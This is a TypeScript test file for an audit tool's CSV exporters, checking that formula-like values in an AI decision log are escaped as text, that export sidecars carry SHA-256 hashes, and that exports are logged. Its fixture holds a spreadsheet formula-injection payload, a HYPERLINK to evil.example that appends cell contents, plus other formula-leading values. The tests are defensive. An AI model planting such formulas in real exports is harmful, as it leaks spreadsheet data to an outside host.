import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GENESIS_PREV_HASH, recordHash } from '../../src/archive/canonical.ts';
import type { CaseHandle } from '../../src/case/store.ts';
import { Workspace } from '../../src/case/workspace.ts';
import { checkParams } from '../../src/export/exporter.ts';
import { exporterNamed, exporters } from '../../src/export/exporters/index.ts';
import { exportCsv } from '../../src/export/run.ts';
import { importArchives } from '../../src/import/importer.ts';

const BIN = fileURLToPath(new URL('../../bin/audit-ws.mjs', import.meta.url));
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let tmp: string;
let ws: string;
let handle: CaseHandle;

/** A chained decision log whose text members start like spreadsheet formulas. */
function hostileLog(file: string): void {
  let prev = GENESIS_PREV_HASH;
  const lines: string[] = [];
  const values = [FORMULA, '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', 'plain, "quoted"\nnext line'];
  values.forEach((v, seq) => {
    const r: Record<string, unknown> = {
      traceId: `t-${seq}`,
      decisionId: `d-${seq}`,
      timestamp: `2026-03-01T00:0${seq}:00Z`,
      modelId: 'm',
      modelVersion: '1',
      prediction: v,
      confidence: -0.5 + seq / 10,
      humanReviewRequired: false,
      humanReviewed: false,
      humanOverride: false,
      affectedUserId: v,
      seq,
      prevHash: prev,
    };
    r.hash = recordHash(r);
    prev = r.hash as string;
    lines.push(JSON.stringify(r));
  });
  writeFileSync(file, `${lines.join('\n')}\n`);
}

async function readCsv(file: string): Promise<Record<string, unknown>[]> {
  const db = await DuckDBInstance.create(':memory:');
  const con = await db.connect();
  try {
    const r = await con.runAndReadAll(
      `SELECT * FROM read_csv('${file}', header=true, all_varchar=true, quote='"', escape='"', strict_mode=true)`,
    );
    return r.getRowObjectsJS();
  } finally {
    con.closeSync();
    db.closeSync();
  }
}

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'csv-exporters-'));
  ws = join(tmp, 'ws');
  const log = join(tmp, 'decisions.jsonl');
  hostileLog(log);
  handle = await new Workspace(ws).create('CSV case', { actor: 'Ada' });
  expect((await importArchives(handle, [log])).status).toBe('done');
});

afterAll(async () => {
  await handle.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('CSV exporters over a real case', () => {
  it('a decision holding =HYPERLINK(...) exports as text, in one cell, for every exporter that shows it', async () => {
    for (const [name, params] of [
      ['records', {}],
      ['search', {}],
    ] as const) {
      const out = join(tmp, `${name}.csv`);
      const res = await exportCsv(exporterNamed(name), handle, params, out, { caseName: 'CSV case' });
      expect(res.sidecar.rows).toBe(6);
      const rows = await readCsv(out);
      const predictions = rows.map((r) => r.prediction);
      expect(predictions).toEqual([
        `'${FORMULA}`,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTAB",
        'plain, "quoted"\nnext line',
      ]);
      // numbers stay numbers: a negative confidence is not escaped
      expect(rows[0].confidence).toBe('-0.5');
      const raw = readFileSync(out, 'utf8');
      expect(raw).not.toMatch(/(^|,)=HYPERLINK/m);
      expect(raw.split('\r\n')[0].split(',')).toContain('prediction');
      expect(raw.endsWith('\r\n')).toBe(true);
    }
  });

  it('writes a sidecar naming the query, its parameters, the columns and the SHA-256 of the file', async () => {
    const out = join(tmp, 'search-m.csv');
    const res = await exportCsv(
      exporterNamed('search'),
      handle,
      { modelId: 'm', humanOverride: 'false', sort: '-confidence' },
      out,
    );
    const side = JSON.parse(readFileSync(`${out}.json`, 'utf8'));
    expect(side).toMatchObject({
      format: 'audit-ws-csv-export',
      query: 'search',
      parameters: { modelId: 'm', humanOverride: 'false', sort: '-confidence' },
      rows: 6,
    });
    expect(side.columns[0]).toBe('decisionId');
    expect(side.sha256).toBe(res.sidecar.sha256);
    const { createHash } = await import('node:crypto');
    expect(createHash('sha256').update(readFileSync(out)).digest('hex')).toBe(side.sha256);
    const rows = await readCsv(out);
    expect(rows.map((r) => r.decisionId)).toEqual(['d-5', 'd-4', 'd-3', 'd-2', 'd-1', 'd-0']);
  });

  it('timeline, oversight and custody exporters produce their tables', async () => {
    for (const [name, params, min] of [
      ['timeline', { decisionId: 'd-0' }, 1],
      ['oversight', { table: 'model-version' }, 1],
      ['custody', {}, 2],
    ] as const) {
      const out = join(tmp, `${name}.csv`);
      const res = await exportCsv(exporterNamed(name), handle, params, out);
      expect(res.sidecar.rows, name).toBeGreaterThanOrEqual(min);
    }
  });

  it('refuses unknown and missing parameters, naming them', () => {
    expect(() => checkParams(exporterNamed('records'), { nope: '1' })).toThrow(/unknown parameter "nope"/);
    expect(() => checkParams(exporterNamed('fairness'), { attribute: 'x' })).toThrow(
      /"positivePrediction" is required/,
    );
    expect(exporters.map((e) => e.name)).toEqual(
      expect.arrayContaining(['search', 'timeline', 'anomalies', 'oversight', 'fairness']),
    );
  });

  it('the CLI export records the export in the custody log', async () => {
    await handle.close();
    const out = join(tmp, 'cli.csv');
    const r = spawnSync(
      process.execPath,
      [BIN, 'export', 'records', '--case', 'CSV case', '--workspace', ws, '--out', out, '--param', 'kind=decision'],
      { encoding: 'utf8' },
    );
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    handle = await new Workspace(ws).open('CSV case', { mode: 'write', actor: 'Ada' });
    const last = handle.sqlite.prepare('SELECT action, details FROM custody_log ORDER BY seq DESC LIMIT 1').get() as {
      action: string;
      details: string;
    };
    expect(last.action).toBe('export.csv');
    expect(JSON.parse(last.details)).toMatchObject({ query: 'records', parameters: { kind: 'decision' }, rows: 6 });
  });
});
